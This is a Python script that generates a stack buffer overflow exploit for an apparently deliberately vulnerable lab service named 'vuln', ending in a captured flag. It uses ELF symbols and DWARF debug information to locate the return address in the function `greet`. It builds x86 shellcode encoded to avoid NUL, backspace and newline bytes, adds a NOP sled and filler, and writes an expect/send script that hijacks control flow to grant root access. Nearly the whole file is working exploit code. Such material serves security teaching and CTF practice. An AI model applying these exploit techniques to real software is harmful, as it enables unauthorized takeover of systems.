"""Writes attack.script: how the `vuln` guest is taken over.

`greet` copies a name into 64 bytes of its stack until the terminating NUL.  The line sent here carries

    name <sled><code><filler><address>\\n

    sled      NOPs: wherever in them the CPU arrives, it slides into the code
    code      machine code: sets `admin`, overwrites `banner`, goes to `grant`
    filler    up to the return address of `greet`
    address   three bytes that replace it; the copy's NUL is the fourth (the guest lies below 16 MiB)

The return address is made to point into `line`, where the service itself keeps what was typed: unlike an
address on the stack, that one is in the symbol table.  How far the return address is from the buffer is in
the debug information: it stands right below the frame's base (the CFA of DWARF 4, 6.4), the buffer at an
offset from the same base.

Run it again when vuln.elf changes: ``python attack.py [vuln.elf [attack.script]]``.
"""

from __future__ import annotations

import sys
from dataclasses import dataclass
from pathlib import Path

from elftools.dwarf.die import DIE
from elftools.dwarf.dwarf_expr import DWARFExprParser
from elftools.elf.elffile import ELFFile
from elftools.elf.sections import SymbolTableSection

COMMAND = b"name "

# What the service acts on while it reads a line, and what ends its copy.
FORBIDDEN = frozenset(b"\0\b\n\r\x7f")

NOP = b"\x90"
FILLER = b"A"
EAX, ECX = 0, 1

SCRIPT = """\
# A takeover, made from vuln.elf by attack.py.  First the service is used as it is meant to be.
expect "vuln> "
send "help\\n"
expect "help, echo TEXT, sum N N, name TEXT, quit\\r\\n"
expect "vuln> "
send "name Eve\\n"
expect "\\r\\nhello, Eve\\r\\n"
expect "vuln> "

# Then a name of {size} bytes, for a buffer of 64.
send "name "
# {sled_size} NOPs, at {sled:#x} in `line`
send "{sled_text}"
# code: admin += 1, "pwnd" over the banner, jump to `grant`
send "{code_text}"
# filler, up to the return address of `greet`
send "{filler_text}"
# the return address, {target:#x}; the NUL that ends the copy completes it
send "{address_text}\\n"

# The service is ours.
expect "root: access granted\\r\\n"
expect "pwnd# "
send "flag\\n"
expect "flag{{replayed bit for bit}}\\r\\n"
expect "pwnd# "
send "halt\\n"
"""


@dataclass(frozen=True, slots=True)
class Target:
    """A build of vuln as the attack sees it: addresses, and the bytes from buffer to return address."""

    line: int
    admin: int
    banner: int
    grant: int
    return_offset: int


def find_target(image: Path) -> Target:
    """Read a `Target` from the symbols and the debug information of *image*.

    Raises LookupError if it is not a build of vuln.
    """
    with image.open("rb") as file:
        elf = ELFFile(file)
        symbols = elf.get_section_by_name(".symtab")
        if not isinstance(symbols, SymbolTableSection) or not elf.has_dwarf_info():
            raise LookupError(f"{image} has no symbols or no debug information")

        def address(name: str) -> int:
            found = symbols.get_symbol_by_name(name)
            if not found:
                raise LookupError(f"{image} has no symbol {name!r}")
            return int(found[0]["st_value"])

        offset = _return_offset(elf)
        return Target(address("line"), address("admin"), address("banner"), address("grant"), offset)


def _return_offset(elf: ELFFile) -> int:
    """Return the bytes from the start of `name` in `greet` to the return address of `greet`."""
    dwarf = elf.get_dwarf_info()
    parser = DWARFExprParser(dwarf.structs)

    def operation(die: DIE, attribute: str) -> tuple[str, list[int]]:
        (only,) = parser.parse_expr(die.attributes[attribute].value)
        return only.op_name, only.args

    for unit in dwarf.iter_CUs():
        for function in unit.get_top_DIE().iter_children():
            if function.tag != "DW_TAG_subprogram" or _name(function) != b"greet":
                continue
            for variable in function.iter_children():
                if variable.tag == "DW_TAG_variable" and _name(variable) == b"name":
                    base, _ = operation(function, "DW_AT_frame_base")
                    place, offsets = operation(variable, "DW_AT_location")
                    if (base, place) == ("DW_OP_call_frame_cfa", "DW_OP_fbreg"):
                        return -4 - offsets[0]
    raise LookupError("the debug information does not place `name` in the frame of `greet`")


def _name(die: DIE) -> bytes:
    attribute = die.attributes.get("DW_AT_name")
    return bytes(attribute.value) if attribute else b""


def load_register(register: int, value: int) -> bytes:
    """Return code for MOV and XOR that leave *value* in *register*; none of its bytes is forbidden.

    Addresses below 16 MiB have a zero byte, so the value comes in two parts.
    """
    part, mask = bytearray(), bytearray()
    for byte in value.to_bytes(4, "little"):
        mask.append(next(m for m in range(1, 256) if not {m, m ^ byte} & FORBIDDEN))
        part.append(byte ^ mask[-1])
    return bytes([0xB8 + register, *part, 0x81, 0xF0 + register, *mask])


def shellcode(target: Target) -> bytes:
    """Return the code that the attack brings along."""
    return b"".join(
        (
            load_register(ECX, target.admin),
            b"\xff\x01",  # inc dword [ecx]
            load_register(ECX, target.banner),
            b"\xc7\x01pwnd",  # mov dword [ecx], "pwnd"
            load_register(EAX, target.grant),
            b"\xff\xe0",  # jmp eax
        )
    )


def attack_script(target: Target) -> str:
    """Return the console script that takes over a service built as *target* says.

    Raises LookupError if no line can do that: the code does not fit, or an address holds a forbidden byte.
    """
    code = shellcode(target)
    start = target.line + len(COMMAND)
    sled_size = (target.return_offset - len(code)) // 2
    filler_size = target.return_offset - len(code) - sled_size
    entries = (
        entry
        for entry in range(start + sled_size // 2, start + sled_size)
        if not set(entry.to_bytes(4, "little")[:3]) & FORBIDDEN
    )
    entry = next(entries, None)
    if entry is None or entry >= 1 << 24 or set(code) & FORBIDDEN:
        raise LookupError("no return address or code without NUL, backspace, or the end of a line")
    return SCRIPT.format(
        size=target.return_offset + 3,
        sled=start,
        sled_size=sled_size,
        sled_text=_escape(NOP * sled_size),
        code_text=_escape(code),
        filler_text=(FILLER * filler_size).decode("ascii"),
        target=entry,
        address_text=_escape(entry.to_bytes(4, "little")[:3]),
    )


def _escape(data: bytes) -> str:
    return "".join(f"\\x{byte:02x}" for byte in data)


def main(arguments: list[str]) -> None:
    """Write the attack script for the image named first into the file named second."""
    here = Path(__file__).parent
    image = Path(arguments[0]) if arguments else here / "vuln.elf"
    script = Path(arguments[1]) if len(arguments) > 1 else here / "attack.script"
    script.write_text(attack_script(find_target(image)), encoding="ascii")


if __name__ == "__main__":
    main(sys.argv[1:])
